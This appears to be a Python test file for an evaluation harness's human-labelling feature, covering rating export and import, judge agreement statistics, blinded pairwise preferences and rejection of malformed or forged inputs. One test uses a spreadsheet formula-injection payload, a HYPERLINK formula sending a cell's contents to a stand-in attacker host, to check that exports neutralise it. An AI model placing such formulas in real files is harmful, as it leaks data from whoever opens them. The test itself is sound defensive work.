"""Human labels round trip: export -> labels the test writes -> import -> human scores, judge agreement, report."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from scipy.stats import spearmanr

from evalharness.cli import main
from evalharness.execution.pipeline import RunConfig, evaluate
from evalharness.judging.agreement import cohen_kappa
from evalharness.report.html import render_html
from evalharness.spec.task import load_task_file

TASK = """name: judged_qa
kind: generate
dataset: {path: qa.jsonl, id_field: id}
prompt: {template: "Q: {{question}}\\nA:"}
references: answers
generate: {max_tokens: 16, stop: ["\\n"]}
metrics:
  - exact_match
  - {name: judge, params: {judge: mt_bench_single, question: question}}
"""
# the judge (a scripted fake) rates by what the answer contains
JUDGE = {"script": {"Paris": "Fine. [[9]]", "42": "[[7]]", "Jupiter": "[[8]]", "green": "[[6]]", "alpha": "[[2]]"},
         "output": "[[4]]"}
ANSWERS = {"Capital": "Paris", "6 * 7": "42", "Largest": "Jupiter", "grass": "green"}


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    base = tmp_path_factory.mktemp("annotate")
    shutil.copy(Path(__file__).parent / "fixtures" / "qa.jsonl", base / "qa.jsonl")
    (base / "judged.yaml").write_text(TASK)
    out = []
    for name, args in (("a", {"script": ANSWERS}), ("b", {"output": "alpha"})):
        cfg = RunConfig(tasks=[load_task_file(base / "judged.yaml")], model="fake", model_args=args, output=base / name,
                        use_cache=False, progress=False, bootstrap_resamples=100, judge_model="fake",
                        judge_model_args=JUDGE, name=f"model {name}")
        evaluate(cfg)
        out.append(base / name)
    return out[0], out[1]


def _judge_scores(run: Path) -> dict[str, float]:
    recs = [json.loads(x) for x in (run / "samples" / "judged_qa.jsonl").read_text().splitlines()]
    return {r["id"]: r["scores"]["mt_bench_single"] for r in recs}


def _results(run: Path) -> dict[str, Any]:
    return json.loads((run / "results.json").read_text())


def test_ratings_round_trip_with_judge_agreement(runs: tuple[Path, Path], tmp_path: Path) -> None:
    run = runs[0]
    export = tmp_path / "ratings.csv"
    assert main(["annotate", "export", str(run), "--output", str(export)]) == 0
    rows = list(csv.DictReader(export.open(encoding="utf-8")))
    assert [r["item"] for r in rows] == [f"judged_qa/{i}" for i in "abcde"]
    assert {r["scale"] for r in rows} == {"1-10"}  # the task judge's scale
    assert rows[0]["response"] == "Paris" and rows[0]["rating"] == ""
    # a human's ratings: agrees with the judge on a, d; not on b, c; e left blank
    human = {"a": 9, "b": 5, "c": 3, "d": 8, "e": None}
    for r in rows:
        r["rating"] = "" if human[r["sample_id"]] is None else str(human[r["sample_id"]])
    labelled = tmp_path / "ratings_done.csv"
    with labelled.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert main(["annotate", "import", str(labelled), "--run", str(run)]) == 0

    entry = _results(run)["tasks"]["judged_qa"]["human"]
    rated = {k: v for k, v in human.items() if v is not None}
    assert entry["ratings"]["n"] == 4 and entry["ratings"]["mean"] == pytest.approx(sum(rated.values()) / 4)
    assert entry["ratings"]["ci_low"] <= entry["ratings"]["mean"] <= entry["ratings"]["ci_high"]
    judge = _judge_scores(run)
    h = [float(rated[k]) for k in rated]
    j = [judge[k] for k in rated]
    agree = entry["agreement"]["mt_bench_single"]
    assert agree["n"] == 4
    assert agree["percent_agreement"] == pytest.approx(sum(a == b for a, b in zip(h, j, strict=True)) / 4) == 0.5
    assert agree["cohen_kappa"] == pytest.approx(cohen_kappa(h, j))
    assert agree["spearman"] == pytest.approx(spearmanr(h, j).statistic)
    stored = [json.loads(x) for x in (run / "human" / "labels.jsonl").read_text().splitlines()]
    assert len(stored) == 4 and all(s["kind"] == "rating" for s in stored)


def test_pairwise_export_is_blinded_and_import_unblinds(runs: tuple[Path, Path], tmp_path: Path) -> None:
    run_a, run_b = runs
    export = tmp_path / "pairs.jsonl"
    assert main(["annotate", "export", str(run_a), str(run_b), "--output", str(export), "--seed", "3"]) == 0
    text = export.read_text()
    assert "model a" not in text and "model b" not in text and str(run_a) not in text
    key = json.loads((tmp_path / "pairs.jsonl.key.json").read_text())
    assert [r["model"] for r in key["runs"]] == ["model a", "model b"]
    rows = [json.loads(x) for x in text.splitlines()]
    assert {key["items"][r["item"]]["A"] for r in rows} == {0, 1}  # both orders occur: position is not a tell
    # a human who prefers model a's answer everywhere except one tie
    for r in rows:
        a_is_model_a = key["items"][r["item"]]["A"] == 0
        r["preference"] = "tie" if r["sample_id"] == "c" else ("A" if a_is_model_a else "B")
    labelled = tmp_path / "pairs_done.jsonl"
    labelled.write_text("".join(json.dumps(r) + "\n" for r in rows))
    assert main(["annotate", "import", str(labelled), "--run", str(run_b), "--key", str(tmp_path / "pairs.jsonl.key.json")]) == 0
    pw = _results(run_b)["tasks"]["judged_qa"]["human"]["pairwise"]
    assert (pw["wins"], pw["losses"], pw["ties"], pw["against"]) == (0, 4, 1, "model a")
    assert pw["win_rate"] == pytest.approx(0.5 / 5)
    # the judge's ratings imply model a wins wherever it rated a higher: compare with the human
    ja, jb = _judge_scores(run_a), _judge_scores(run_b)
    judge_says = {k: "loss" if jb[k] < ja[k] else "win" if jb[k] > ja[k] else "tie" for k in ja}
    human_says = {r["sample_id"]: "tie" if r["sample_id"] == "c" else "loss" for r in rows}
    agree = _results(run_b)["tasks"]["judged_qa"]["human"]["agreement"]["mt_bench_single (pairwise)"]
    assert agree["percent_agreement"] == pytest.approx(sum(judge_says[k] == human_says[k] for k in ja) / 5)
    html = render_html([run_a, run_b])
    assert 'id="human-table"' in html and "vs model a" in html and "preferences percent_agreement" in html


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda rows: rows[1].update(rating="11"), ":3: rating: expected a whole number from 1 to 10, got '11'"),
        (lambda rows: rows[0].update(rating="good"), ":2: rating: expected a whole number"),
        (lambda rows: rows[2].update(item="judged_qa/zzz"), ":4: item: 'judged_qa/zzz' is not a generated sample"),
        (lambda rows: rows[3].update(item=rows[0]["item"]), ":5: item: 'judged_qa/a' labelled twice"),
        (lambda rows: rows[1].update(scale="1-1000", rating="1000"), ":3: scale: 1-1000 differs from the file's 1-10"),
        (lambda rows: rows[0].update(scale="\u00b2-5"), ":2: scale: expected MIN-MAX"),
        (lambda rows: rows[0].update(scale="1-" + "9" * 5000), ":2: scale: expected MIN-MAX"),
        (lambda rows: rows[0].update(rating="1" + "0" * 400), ":2: rating: expected a whole number"),
    ],
)
def test_bad_label_rows_are_one_line_errors_with_file_and_line(runs: tuple[Path, Path], tmp_path: Path, edit: Any,
                                                               message: str, capsys: pytest.CaptureFixture[str]) -> None:
    rows = [{"item": f"judged_qa/{i}", "scale": "1-10", "rating": "5"} for i in "abcde"]
    edit(rows)
    path = tmp_path / "labels.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=["item", "scale", "rating"])
        writer.writeheader()
        writer.writerows(rows)
    before = (runs[0] / "results.json").read_text()
    assert main(["annotate", "import", str(path), "--run", str(runs[0])]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"error: {path}:") and message in err and "\n" not in err
    assert (runs[0] / "results.json").read_text() == before  # nothing half-imported


def test_exported_cells_are_never_live_formulas_and_still_import(runs: tuple[Path, Path], tmp_path: Path) -> None:
    """A model output such as =HYPERLINK(...) is written as text ('=...) for the annotator's
    spreadsheet; the file still imports (the item ids read back unchanged)."""
    src = runs[1]
    hostile = tmp_path / "hostile"
    shutil.copytree(src, hostile)
    log = hostile / "samples" / "judged_qa.jsonl"
    recs = [json.loads(x) for x in log.read_text().splitlines()]
    for r in recs:
        r["generations"] = ['=HYPERLINK("http://evil.example/?x="&C2,"details")']
    log.write_text("".join(json.dumps(r) + "\n" for r in recs))
    export = tmp_path / "rate.csv"
    assert main(["annotate", "export", str(hostile), "--output", str(export)]) == 0
    rows = list(csv.DictReader(export.open(encoding="utf-8")))
    assert rows and all(r["response"].startswith("'=HYPERLINK") for r in rows)
    for r in rows:
        r["rating"] = "5"
    with export.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert main(["annotate", "import", str(export), "--run", str(hostile)]) == 0
    assert _results(hostile)["tasks"]["judged_qa"]["human"]["ratings"]["n"] == len(rows)


@pytest.mark.parametrize("forge", [
    lambda k: k.pop("runs"), lambda k: k.update(runs=k["runs"][:1]), lambda k: k["runs"][0].pop("path"),
    lambda k: k.update(runs="x"), lambda k: k.update(items={i: "A" for i in k["items"]}),
    lambda k: k.update(items={i: {"A": 7, "B": 7} for i in k["items"]}),
])
def test_a_forged_key_file_is_one_line_and_writes_nothing(runs: tuple[Path, Path], tmp_path: Path, forge: Any,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    run_a, run_b = runs
    export = tmp_path / "pairs.jsonl"
    assert main(["annotate", "export", str(run_a), str(run_b), "--output", str(export)]) == 0
    key_path = tmp_path / "pairs.jsonl.key.json"
    key = json.loads(key_path.read_text())
    forge(key)
    key_path.write_text(json.dumps(key))
    rows = [dict(json.loads(x), preference="A") for x in export.read_text().splitlines()]
    export.write_text("".join(json.dumps(r) + "\n" for r in rows))
    copy = tmp_path / "b"
    shutil.copytree(run_b, copy)
    store = copy / "human" / "labels.jsonl"
    before = (store.read_text() if store.exists() else None, (copy / "results.json").read_text())
    capsys.readouterr()
    assert main(["annotate", "import", str(export), "--run", str(copy), "--key", str(key_path)]) == 2
    err = capsys.readouterr().err.strip()
    assert "not a key file written by `evalharness annotate export`" in err and "\n" not in err and "Traceback" not in err
    assert (store.read_text() if store.exists() else None, (copy / "results.json").read_text()) == before


def test_human_intervals_stay_inside_their_scale(runs: tuple[Path, Path], tmp_path: Path) -> None:
    from evalharness.judging.human import _mean_ci

    win = _mean_ci([0.0, 0.0, 1.0], (0.0, 1.0))
    assert 0.0 <= win["ci_low"] <= win["mean"] <= win["ci_high"] <= 1.0  # was [-1.101, 1.768]
    rating = _mean_ci([1.0, 5.0], (1.0, 5.0))
    assert 1.0 <= rating["ci_low"] and rating["ci_high"] <= 5.0
